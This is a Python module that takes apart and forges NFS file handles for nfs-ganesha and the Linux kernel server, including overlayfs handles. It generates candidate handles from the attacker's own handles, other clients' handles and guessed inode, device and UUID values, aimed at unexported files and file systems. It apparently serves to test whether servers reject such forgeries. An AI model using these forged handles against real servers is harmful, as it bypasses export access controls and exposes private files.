"""NFS file handles taken apart and forged: Ganesha's, the kernel server's, and what overlayfs hides within either.

Sources: nfs_fh.h and FSAL_VFS of nfs-ganesha 4, fs/nfsd/nfsfh.h and fs/overlayfs/overlayfs.h of Linux 6, all in the byte order
of the machine.
"""

from __future__ import annotations

import contextlib
import dataclasses
import struct
from collections.abc import Iterable, Iterator
from dataclasses import dataclass

#: Types of a kernel's file handle (name_to_handle_at(2)): inode and generation, the same with the parent's, and an overlay's.
INODE, WITH_PARENT, OVERLAY = 1, 2, 0xF8
_GANESHA, _KERNEL = 0x43, 1
_GANESHA_FSIDS = {0: 0, 1: 8, 2: 8, 3: 16, 4: 8, 5: 8}
_KERNEL_FSIDS = {0: 8, 1: 4, 2: 12, 3: 8, 4: 8, 5: 8, 6: 16, 7: 24}
_UPPER = 4


@dataclass(frozen=True)
class Inner:
    """The handle of the real file that an overlay's handle holds."""

    flags: int
    kind: int
    uuid: bytes
    fid: bytes

    @classmethod
    def parse(cls, data: bytes) -> Inner:
        _version, _magic, size, flags, kind = data[3:8]
        return cls(flags, kind, data[8:24], data[24 : 3 + size])

    def encode(self) -> bytes:
        return bytes([0, 0, 0, 0, 0xFB, 21 + len(self.fid), self.flags, self.kind]) + self.uuid + self.fid


@dataclass(frozen=True)
class Handle:
    """What a server finds a file by: the export (Ganesha's number), its file system, and the kernel's handle within that."""

    server: int
    export: bytes
    fsid_type: int
    fsid: bytes
    kind: int
    fid: bytes

    @classmethod
    def parse(cls, data: bytes) -> Handle:
        if data[0] == _KERNEL:
            end = 4 + _KERNEL_FSIDS[data[2]]
            return cls(_KERNEL, b"", data[2], data[4:end], data[3], data[end:])
        if data[0] != _GANESHA:
            raise ValueError(f"neither Ganesha's nor the kernel's: {data.hex()}")
        body = data[5 : 5 + data[4]]
        if body[0] & 0xC0 != 0x40:
            raise ValueError(f"no handle of a file: {data.hex()}")
        end = 1 + _GANESHA_FSIDS[body[0] & 0x1F]
        return cls(_GANESHA, data[1:4], body[0] & 0x1F, body[1:end], body[end], body[end + 1 :])

    def encode(self) -> bytes:
        if self.server == _KERNEL:
            return bytes([_KERNEL, 0, self.fsid_type, self.kind]) + self.fsid + self.fid
        # Ganesha has handles of whole file systems, too, which are for itself.
        rest = bytes([self.kind]) + self.fid if self.kind else b""
        body = bytes([self.fsid_type | (0x40 if rest else 0x20)]) + self.fsid + rest
        found = bytes([_GANESHA]) + self.export + bytes([len(body)]) + body
        return found + bytes(-len(found) % 4)

    @property
    def door(self) -> tuple[bytes, int, bytes]:
        """The export and the file system by which it comes in."""
        return self.export, self.fsid_type, self.fsid


@dataclass(frozen=True)
class Target:
    """A file that nobody on the network may have, as the master knows it: a strong attacker guesses all of this."""

    path: str
    inode: int
    generation: int
    kind: int
    fid: bytes
    parent: int
    uuid: bytes
    device: tuple[int, int]
    top: int
    digest: str
    directory: bool


def forged(own: Iterable[bytes], others: Iterable[bytes], targets: Iterable[Target]) -> Iterator[tuple[str, bytes]]:
    """Handles that nobody was given, each with words for it, made of those that the attacker has, those that others have, and guesses."""
    mine, theirs, aims = [*_parsed(own)], [*_parsed(others)], [*targets]
    seen = set()
    for words, handle in (*_replaced(mine, aims), *_crossed(mine, theirs), *_doors(mine, aims)):
        data = handle.encode()
        if data not in seen and len(data) <= 64:
            seen.add(data)
            yield words, data


def _parsed(handles: Iterable[bytes]) -> Iterator[Handle]:
    """Those of files; Ganesha's tree that leads to the exports has none."""
    for handle in handles:
        with contextlib.suppress(ValueError):
            yield Handle.parse(handle)


def _bodies(aim: Target) -> Iterator[tuple[str, int, bytes]]:
    yield f"{aim.path}: inode and generation", INODE, struct.pack("=II", aim.inode, aim.generation)
    yield f"{aim.path}: inode, generation 0", INODE, struct.pack("=II", aim.inode, 0)
    yield f"{aim.path}: inode, generation 0, with its parent", WITH_PARENT, struct.pack("=4I", aim.inode, 0, aim.parent, 0)
    yield f"{aim.path}: the kernel's handle", aim.kind, aim.fid


_GUESSES = [(f"inode {inode}, generation 0", INODE, struct.pack("=II", inode, 0)) for inode in (1, 2, 11, 12)]


def _replaced(mine: list[Handle], aims: list[Target]) -> Iterator[tuple[str, Handle]]:
    """The kernel's handle within one's own is another, as it is or as an overlay's upper or lower file."""
    doors = {(handle.door, handle.kind, handle.fid[6:24] if handle.kind == OVERLAY else b""): handle for handle in mine}
    for handle in doors.values():
        uuid = Inner.parse(handle.fid).uuid if handle.kind == OVERLAY else b""
        bodies = [(words, kind, fid, {uuid, bytes(16)}) for words, kind, fid in _GUESSES]
        bodies += [(*body, {uuid, bytes(16), aim.uuid}) for aim in aims for body in _bodies(aim)]
        for words, kind, fid, uuids in bodies:
            yield words, dataclasses.replace(handle, kind=kind, fid=fid)
            for layer, flags in (("upper", _UPPER), ("lower", 0)):
                for given in filter(None, uuids):
                    inner = Inner(flags, kind, given, fid).encode()
                    yield f"{words}, as {layer} file of an overlay", dataclasses.replace(handle, kind=OVERLAY, fid=inner)


def _crossed(mine: list[Handle], theirs: list[Handle]) -> Iterator[tuple[str, Handle]]:
    """Another's handle, as it is and through one's own door, and one's own through another's."""
    for other in theirs:
        yield "another's handle", other
        for handle in mine:
            yield "another's file through the own export", dataclasses.replace(handle, kind=other.kind, fid=other.fid)
            yield "another's file system through the own export", dataclasses.replace(other, export=handle.export)
            yield "another's export with the own file system", dataclasses.replace(handle, export=other.export)
            yield "another's door with the own file", dataclasses.replace(other, kind=handle.kind, fid=handle.fid)
            yield "another's file system as a whole", dataclasses.replace(other, export=handle.export, kind=0, fid=b"")


def _doors(mine: list[Handle], aims: list[Target]) -> Iterator[tuple[str, Handle]]:
    """File systems that are not exported, by every name that a server has for them."""
    server = mine[0].server
    for aim in aims:
        major, minor = aim.device
        names = {
            _KERNEL: [
                (0, struct.pack("!HH", major, minor) + struct.pack("=I", aim.top)),
                *((1, struct.pack("=I", number)) for number in range(4)),
                (3, struct.pack("=II", minor & 0xFF | major << 8 | (minor & ~0xFF) << 12, aim.top)),
                (4, struct.pack("=I", aim.top) + _folded(aim.uuid, 4)),
                (5, _folded(aim.uuid, 8)),
                (6, aim.uuid),
                (7, struct.pack("=Q", aim.top) + aim.uuid),
            ],
            _GANESHA: [
                (1, aim.uuid[:8]),
                (3, aim.uuid),
                (3, aim.uuid[7::-1] + aim.uuid[:7:-1]),
                (2, struct.pack("=Q", major << 32 | minor)),
                (4, struct.pack("=II", major, minor)),
                (5, struct.pack("=II", major, minor)),
            ],
        }[server]
        bodies = [(aim.kind, aim.fid), (INODE, struct.pack("=II", 2, 0)), (0, b"")]
        for export in {handle.export for handle in mine}:
            for fsid_type, fsid in names:
                for kind, fid in bodies:
                    yield f"{aim.path}: its file system by name {fsid_type}", Handle(server, export, fsid_type, fsid, kind, fid)


def _folded(uuid: bytes, size: int) -> bytes:
    found = bytes(size)
    for start in range(0, 16, size):
        found = bytes(a ^ b for a, b in zip(found, uuid[start : start + size], strict=True))
    return found
